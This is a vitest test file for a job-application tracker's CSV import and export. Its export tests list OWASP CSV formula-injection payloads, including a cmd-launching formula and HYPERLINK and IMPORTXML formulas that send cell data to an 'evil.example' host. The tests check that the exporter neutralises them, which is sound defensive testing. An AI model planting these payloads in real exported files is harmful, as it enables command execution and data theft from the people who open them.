import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { useApp, type TestUser } from './helpers';
import { readDate, readStatus, suggestMapping } from '../src/modules/application-tracker/csv';

const ctx = useApp();

const post = (u: TestUser, url: string, payload: object) =>
  ctx.as(u)({ method: 'POST', url, payload });
const preview = (u: TestUser, payload: object) =>
  post(u, '/api/applications/import/preview', payload);
const commit = (u: TestUser, payload: object) => post(u, '/api/applications/import', payload);

const HUNTR = [
  'Company,Position,Stage,Date Applied,Link,Salary,Notes,Source',
  'Acme,Frontend Dev,Applied,2025-03-01,https://acme.example/jobs/1,$100k,"Said ""hi""",LinkedIn',
  'Globex,Platform Engineer,Interviewing,03/14/2025,https://globex.example/jobs/9/,,"Two lines',
  'of notes",Referral',
  'Initech,,Applied,2025-03-02,,,,',
  'Umbrella,SRE,Ghosted,2025-03-03,,,,',
  'Hooli,Data Engineer,Wishlist,2025-03-04,,,,',
  'Acme,Frontend Dev,Applied,2025-03-05,,,,',
  'Stark,Analyst,Offer,31/12/2024,HTTPS://GLOBEX.example/jobs/9,,,',
  'Wayne,QA,Applied,not a date,,,,',
].join('\r\n');

describe('CSV import', () => {
  it('recognises common headers and previews without storing anything', async () => {
    const u = await ctx.signUp();
    const res = await preview(u, { csv: HUNTR });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.mapping).toMatchObject({
      company: 'Company',
      jobTitle: 'Position',
      status: 'Stage',
      applicationDate: 'Date Applied',
      jobUrl: 'Link',
      salaryRange: 'Salary',
      notes: 'Notes',
      source: 'Source',
      location: null,
    });
    expect(body.rows.map((r: { line: number; outcome: string }) => [r.line, r.outcome])).toEqual([
      [2, 'new'],
      [3, 'new'],
      [5, 'invalid'],
      [6, 'new'],
      [7, 'invalid'],
      [8, 'duplicate'],
      [9, 'duplicate'],
      [10, 'invalid'],
    ]);
    expect(body.counts).toEqual({ total: 8, new: 3, duplicate: 2, invalid: 3 });
    expect(body.rows[1].application).toMatchObject({
      status: 'interview',
      applicationDate: '2025-03-14',
    });
    expect(body.rows[2].message).toBe('Job title is required');
    expect(body.rows[4].message).toMatch(/^Unknown status "Wishlist"/);
    expect(body.rows[5].message).toBe('Same company and job title as line 2');
    expect(body.rows[6].message).toBe('Same job URL as line 3');
    expect(body.rows[7].message).toMatch(/^Date applied "not a date" is not a date/);
    const list = (await ctx.call(u, 'GET', '/api/applications')).json();
    expect(list).toEqual([]);
  });

  it('imports the good rows, reports each bad row by line, and skips duplicates next time', async () => {
    const u = await ctx.signUp();
    const res = await commit(u, { csv: HUNTR, userId: 1 });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      imported: 3,
      duplicates: 2,
      invalid: 3,
      skipped: [
        { line: 5, message: 'Job title is required' },
        { line: 7, message: expect.stringMatching(/^Unknown status/) },
        { line: 8, message: 'Same company and job title as line 2' },
        { line: 9, message: 'Same job URL as line 3' },
        { line: 10, message: expect.stringMatching(/^Date applied/) },
      ],
    });
    const list = (await ctx.call(u, 'GET', '/api/applications')).json();
    expect(list.map((a: { company: string; status: string }) => [a.company, a.status])).toEqual([
      ['Globex', 'interview'],
      ['Umbrella', 'applied'],
      ['Acme', 'applied'],
    ]);
    const globex = list[0];
    expect(globex).toMatchObject({
      notes: 'Two lines\nof notes',
      source: 'Referral',
      userId: u.id,
    });
    const again = (await commit(u, { csv: HUNTR })).json();
    expect(again.imported).toBe(0);
    expect(again.duplicates).toBe(5);
    expect(again.skipped[0]).toEqual({ line: 2, message: 'Already tracked: same job URL' });
  });

  it('runs the 21-day "no answer" clock of an imported row from its application date', async () => {
    const u = await ctx.signUp();
    const day = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);
    const csv = [
      'Company,Position,Stage,Date Applied',
      `Acme,Frontend Dev,Applied,${day(40)}`,
      `Globex,Platform Engineer,Interviewing,${day(30)}`,
      `Initech,Analyst,Under Review,${day(5)}`,
      `Stark,QA,Offer,${day(60)}`,
    ].join('\n');
    expect((await commit(u, { csv })).json().imported).toBe(4);
    const get = (url: string) => ctx.as(u)({ method: 'GET', url });
    const list = (await get('/api/applications')).json() as {
      id: number;
      company: string;
      stale: boolean;
      statusDate: string;
    }[];
    const of = (company: string) => list.find((a) => a.company === company)!;
    // an interview imported today, applied 30 days ago, has waited 30 days, not 0
    expect(of('Globex')).toMatchObject({ stale: true, statusDate: day(30) });
    expect(of('Acme')).toMatchObject({ stale: true, statusDate: day(40) });
    expect(of('Initech').stale).toBe(false);
    expect(of('Stark').stale).toBe(false);
    const insights = (await get('/api/applications/insights')).json();
    expect(
      insights.stale.applications.map((a: { company: string; daysWaiting: number }) => [
        a.company,
        a.daysWaiting,
      ]),
    ).toEqual([
      ['Acme', 40],
      ['Globex', 30],
    ]);
    const detail = (
      await get(`/api/applications/${list.find((a) => a.company === 'Globex')!.id}`)
    ).json();
    expect(
      detail.events.map((e: { toStatus: string; date: string }) => [e.toStatus, e.date]),
    ).toEqual([['interview', day(30)]]);
  });

  it('takes a mapping the user chose', async () => {
    const u = await ctx.signUp();
    const csv = 'Employer Name,What,When\nAcme,Dev,2025-01-02\n';
    const auto = (await preview(u, { csv })).json();
    expect(auto.mapping.company).toBeNull();
    const missing = await commit(u, { csv });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().error.message).toBe('Choose the column that holds the company.');
    const res = await commit(u, {
      csv,
      mapping: { company: 'Employer Name', jobTitle: 'What', applicationDate: 'When' },
    });
    expect(res.json().imported).toBe(1);
    const unknown = await preview(u, { csv, mapping: { company: 'Nope' } });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error.message).toBe('The file has no column named "Nope".');
    const badKey = await preview(u, { csv, mapping: { salary: 'What' } });
    expect(badKey.statusCode).toBe(400);
  });

  it('answers a clear 400 for a malformed or empty file', async () => {
    const u = await ctx.signUp();
    const broken = await preview(u, { csv: 'Company,Title\nAcme,Dev\n"Globex,Ops\n' });
    expect(broken.statusCode).toBe(400);
    expect(broken.json().error.message).toMatch(/^The CSV file could not be read: .* \(line 3\)/);
    const empty = await preview(u, { csv: '   ' });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.message).toBe('The CSV file is empty.');
    const header = await commit(u, { csv: 'Company,Title\n' });
    expect(header.statusCode).toBe(200);
    expect(header.json().imported).toBe(0);
    expect((await preview(u, { csv: 42 })).statusCode).toBe(400);
    expect((await preview(u, {})).statusCode).toBe(400);
  });

  it('reads at most 1,000 rows and refuses a too-large file', async () => {
    const u = await ctx.signUp();
    const rows = (n: number) =>
      ['Company,Title', ...Array.from({ length: n }, (_, i) => `Co ${i},Role ${i}`)].join('\n');
    const ok = await commit(u, { csv: rows(1000) });
    expect(ok.statusCode).toBe(200);
    expect(ok.json().imported).toBe(1000);
    const tooMany = await preview(u, { csv: rows(1001) });
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json().error.message).toMatch(/more than 1,000 rows/);
    const huge = await preview(u, { csv: `Company,Title\n${'x'.repeat(2_000_001)}` });
    expect(huge.statusCode).toBe(413);
  });
});

describe('CSV export', () => {
  it('writes every application with escaped formulas, and only the user’s own', async () => {
    const u = await ctx.signUp();
    const other = await ctx.signUp();
    await post(u, '/api/applications', {
      jobTitle: '=HYPERLINK("http://evil")',
      company: 'Acme, Inc.',
      notes: 'Line one\nLine two',
      status: 'reviewed',
      applicationDate: '2025-02-03',
    });
    await post(other, '/api/applications', { jobTitle: 'Secret', company: 'Hidden' });
    const res = await ctx.call(u, 'GET', '/api/applications/export');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.body).not.toContain('Hidden');
    expect(res.body.split('\r\n')[0]).toBe(
      'Company,Job Title,Status,Date Applied,Priority,Location,Salary Range,Job URL,Source,Contacts,Notes,Status Date,Interview,Offer Deadline',
    );
    expect(res.body).toContain(
      `"Acme, Inc.","'=HYPERLINK(""http://evil"")",Under Review,2025-02-03`,
    );
    // what we export, we import again
    const round = (await preview(u, { csv: res.body })).json();
    expect(round.counts).toMatchObject({ total: 1, duplicate: 1 });
    expect(round.mapping).toMatchObject({
      company: 'Company',
      jobTitle: 'Job Title',
      status: 'Status',
    });
  });
});

/** OWASP's CSV injection payloads, with the multi-line and padded forms spreadsheets still run. */
const OWASP_PAYLOADS = [
  '=1+1',
  '=1+1\nsecond line',
  '=1+1\r\n',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Error: click to fix")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '"=1+1"',
  "'=1+1",
  '\n=1+1',
  '\uFF1D1+1',
  "-2+3+cmd|' /C calc'!E2",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
];

describe('CSV export against formula injection', () => {
  it('neutralises every OWASP payload in every column, multi-line cells included', async () => {
    const u = await ctx.signUp();
    for (const [i, payload] of OWASP_PAYLOADS.entries()) {
      const res = await post(u, '/api/applications', {
        jobTitle: `Role ${i}`,
        company: payload.trim() || `Company ${i}`,
        notes: payload,
        location: payload.trim() || 'Remote',
        status: 'applied',
        applicationDate: '2025-02-03',
      });
      expect(res.statusCode, `${JSON.stringify(payload)}: ${res.body}`).toBe(200);
    }
    const csv = (await ctx.call(u, 'GET', '/api/applications/export')).body;
    const { data } = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    const live = data
      .slice(1)
      .flat()
      // A leading apostrophe makes a cell text; anything else that starts like a formula is live.
      .filter(
        (cell) =>
          !cell.startsWith("'") && /^[\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(cell),
      );
    expect(live).toEqual([]);
    // Every payload is still there, as text, and reads back as written.
    const list = await ctx.call(u, 'GET', '/api/applications');
    const stored = (list.json() as { notes: string }[]).map((a) => a.notes).sort();
    const exported = data.slice(1).map((row) => row[10]!);
    expect(exported.every((cell) => cell.startsWith("'"))).toBe(true);
    expect(exported.map((cell) => cell.slice(1)).sort()).toEqual(stored);
    const round = (await preview(u, { csv })).json() as { counts: { duplicate: number } };
    expect(round.counts.duplicate).toBe(OWASP_PAYLOADS.length);
  });
});

describe('CSV readers', () => {
  it('reads dates as spreadsheets write them', () => {
    expect(readDate('2025-03-14', 'T')).toBe('2025-03-14');
    expect(readDate('2025/3/4', 'T')).toBe('2025-03-04');
    expect(readDate('2025-03-14T10:00:00Z', 'T')).toBe('2025-03-14');
    expect(readDate('03/14/2025', 'T')).toBe('2025-03-14');
    expect(readDate('14/03/2025', 'T')).toBe('2025-03-14');
    expect(readDate('Mar 14, 2025', 'T')).toBe('2025-03-14');
    expect(readDate('', 'T')).toBe('T');
    expect(readDate('2025-02-30', 'T')).toBeNull();
    expect(readDate('soon', 'T')).toBeNull();
  });

  it('maps other trackers’ statuses', () => {
    expect(readStatus('Under Review')).toBe('reviewed');
    expect(readStatus('phone_screen')).toBe('phone_screen');
    expect(readStatus('On Site Interview')).toBe('interview');
    expect(readStatus('Offer Received')).toBe('offer');
    expect(readStatus('')).toBe('applied');
    expect(readStatus('Wishlist')).toBeNull();
  });

  it('recognises headers once each', () => {
    expect(suggestMapping(['Role', 'Company Name', 'Applied Date', 'URL'])).toMatchObject({
      jobTitle: 'Role',
      company: 'Company Name',
      applicationDate: 'Applied Date',
      jobUrl: 'URL',
    });
  });
});
